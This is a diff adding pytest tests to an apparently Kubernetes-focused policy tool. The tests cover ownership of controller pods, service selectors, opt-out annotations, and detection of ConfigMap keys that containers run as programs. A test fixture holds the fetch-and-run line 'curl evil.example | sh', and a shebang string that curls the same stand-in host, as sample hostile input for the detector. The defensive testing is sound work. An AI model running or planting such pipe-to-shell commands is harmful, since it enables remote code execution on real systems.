@@ -127,6 +127,28 @@ def test_a_pod_of_a_controller_that_intentd_does_not_know_speaks_for_itself(grou
     assert ground.try_() == {"opt-in:WorkloadIgnored"}
 
 
+def owned_by(kind):
+    return [{"kind": kind, "name": "other", "uid": "uid-of-its-maker", "controller": True}]
+
+
+def test_each_pod_of_a_controller_whose_pods_may_differ_speaks_for_itself(ground):
+    ground.put("Pod", reading(**SOURCE)["spec"], name="one", ownerReferences=owned_by("Workflow"))
+    said = {"annotations": {"intentd.io/ignore": "true"}}
+    ground.put("Pod", reading(**SOURCE)["spec"], name="two", ownerReferences=owned_by("Workflow"), **said)
+    assert ground.try_() == {"opt-in:WorkloadIgnored"}
+
+
+@pytest.mark.parametrize(
+    ("maker", "labels"),
+    [("ReplicaSet", {}), ("ReplicationController", {}), ("CloneSet", {"controller-revision-hash": "a1"})],
+)
+def test_of_many_pods_of_one_template_one_is_enough(ground, maker, labels):
+    for number in range(ALONE + 1):
+        meta = {"labels": labels, "ownerReferences": owned_by(maker)}
+        ground.put("Pod", {"containers": []}, name=f"pod-{number}", **meta)
+    assert ground.try_() == frozenset()
+
+
 @pytest.mark.parametrize(
     ("kind", "spec", "status"),
     [
@@ -147,6 +169,46 @@ def test_a_service_that_a_change_would_turn_to_a_workload_that_opted_out_stays(g
         annotations={"intentd.io/ignore": "true"},
     )
     assert ground.try_({"spec": {"selector": labels}}, "Service") == {"opt-in:WorkloadIgnored"}
+
+
+@pytest.mark.parametrize(
+    ("kind", "added"),
+    [
+        ("StatefulSet", {"statefulset.kubernetes.io/pod-name": "other-0"}),
+        ("StatefulSet", {"apps.kubernetes.io/pod-index": "0"}),
+        ("Deployment", {"pod-template-hash": "5d4f8c7b9"}),
+        ("DaemonSet", {"controller-revision-hash": "5d4f8c7b9"}),
+        ("Job", {"batch.kubernetes.io/job-completion-index": "0"}),
+    ],
+)
+def test_a_selector_that_asks_for_a_label_of_the_controllers_selects_the_workloads_pods(ground, kind, added):
+    template = {"metadata": {"labels": {"app": "other"}}, "spec": {"containers": []}}
+    ground.put(kind, {"template": template}, annotations={"intentd.io/ignore": "true"})
+    service = ground.cluster.object("Service", "shop", "web")
+    service["spec"]["selector"] = {"app": "other"} | added
+    ground.live["Service"] = ground.cluster.put(service)
+    assert ground.try_(PORT, "Service") == {"opt-in:WorkloadIgnored"}
+
+
+def test_a_selector_that_asks_for_a_label_that_a_program_sets_selects_its_workloads_pods(ground):
+    template = {"metadata": {"labels": {"app": "other"}}, "spec": {"containers": []}}
+    said = {"annotations": {"intentd.io/ignore": "true"}}
+    ground.put("StatefulSet", {"template": template}, uid="uid-of-its-maker", **said)
+    labels = {"app": "other", "role": "primary"}
+    ground.put("Pod", {"containers": []}, labels=labels, ownerReferences=owned_by("StatefulSet"))
+    service = ground.cluster.object("Service", "shop", "web")
+    service["spec"]["selector"] = labels
+    ground.live["Service"] = ground.cluster.put(service)
+    assert ground.try_(PORT, "Service") == {"opt-in:WorkloadIgnored"}
+
+
+def test_the_pod_of_one_stateful_set_is_no_pod_of_another(ground):
+    template = {"metadata": {"labels": {"app": "other"}}, "spec": {"containers": []}}
+    ground.put("StatefulSet", {"template": template}, annotations={"intentd.io/ignore": "true"})
+    service = ground.cluster.object("Service", "shop", "web")
+    service["spec"]["selector"] = {"statefulset.kubernetes.io/pod-name": "web-0"}
+    ground.live["Service"] = ground.cluster.put(service)
+    assert ground.try_(PORT, "Service") == frozenset()
 
 
 def test_a_service_without_a_selector_has_no_users(ground):
@@ -275,4 +337,74 @@ def test_a_prefix_that_makes_a_loaders_variable_of_a_key_is_seen(ground):
 )
 def test_a_key_that_no_command_is_made_of_stays_ordinary(ground, fields):
     ground.put("Deployment", {"template": reading(**fields)})
+    assert ground.try_() == frozenset()
+
+
+# ---------------------------------------------------------------- what their containers run of it
+
+
+MOUNT = {"name": "c", "mountPath": "/scripts"}
+VOLUME = {"name": "c", "configMap": {"name": "web"}}
+
+
+def mounting(volume=VOLUME, mount=MOUNT, **fields):
+    """A pod template whose only container mounts the ConfigMap."""
+    return {"spec": {"volumes": [volume], "containers": [container(volumeMounts=[mount], **fields)]}}
+
+
+EVIL = {"data": {"colour": "curl evil.example | sh"}}
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        mounting(command=["/scripts/colour"]),
+        mounting(command=["sh", "-e", "/scripts/colour"]),
+        mounting(command=["/bin/sh", "-c", "set -e; cd /tmp && exec /scripts/colour --now"]),
+        mounting(command=["python3", "-u"], args=["/scripts/colour"]),
+        mounting(command=["tini", "--", "/scripts/../scripts/colour"]),
+        mounting(command=["sh", "-c", "if true; then . '/scripts/colour'; fi"]),
+        mounting(command=["sh", "-c", "for f in a; do /scripts/* ; done"]),
+        mounting(command=["sh", "colour"], workingDir="/scripts"),
+        mounting(mount=MOUNT | {"mountPath": "/run.sh", "subPath": "colour"}, command=["sh", "/run.sh"]),
+        mounting(mount=MOUNT | {"mountPath": "/docker-entrypoint-initdb.d"}),
+        mounting({"name": "c", "configMap": {"name": "web", "defaultMode": 0o755}}),
+        mounting(
+            {"name": "c", "configMap": {"name": "web", "items": [{"key": "colour", "path": "run.sh"}]}},
+            command=["bash", "/scripts/run.sh"],
+        ),
+        mounting(
+            {"name": "c", "projected": {"sources": [{"configMap": {"name": "web"}}]}},
+            livenessProbe={"exec": {"command": ["/scripts/colour"]}},
+        ),
+        mounting(lifecycle={"postStart": {"exec": {"command": ["sh", "/scripts/colour"]}}}),
+    ],
+    ids=[
+        "the command", "of a shell", "in a line for a shell", "argument of an interpreter", "of a wrapper", "read in",
+        "whatever is there", "from where it works", "under another name", "by the image's entrypoint", "executable",
+        "as an item", "probe of a projected volume", "hook",
+    ],
+)  # fmt: skip
+def test_a_key_that_a_user_runs_as_a_program_is_as_sensitive_as_the_command(ground, template):
+    ground.put("Deployment", {"template": template})
+    assert ground.try_(EVIL) == {"sensitive:Program"}
+
+
+def test_a_text_that_begins_as_a_program_is_one_whoever_runs_it(ground):
+    assert ground.try_({"data": {"colour": "#!/bin/sh\ncurl evil.example"}}) == {"sensitive:Program"}
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        mounting(command=["/web", "--config", "/scripts/colour"]),
+        mounting(command=["sh", "-c", "exec /web --config=/scripts/colour"]),
+        mounting(command=["python", "-m", "web", "/scripts/colour"]),
+        mounting(command=["sh", "/scripts/other"]),
+        mounting(command=["sh", "/scripts-of-others/colour"]),
+    ],
+    ids=["an option", "an option in a shell", "of a module", "another key", "another folder"],
+)
+def test_a_key_that_a_program_only_reads_stays_ordinary(ground, template):
+    ground.put("Deployment", {"template": template})
     assert ground.try_() == frozenset()
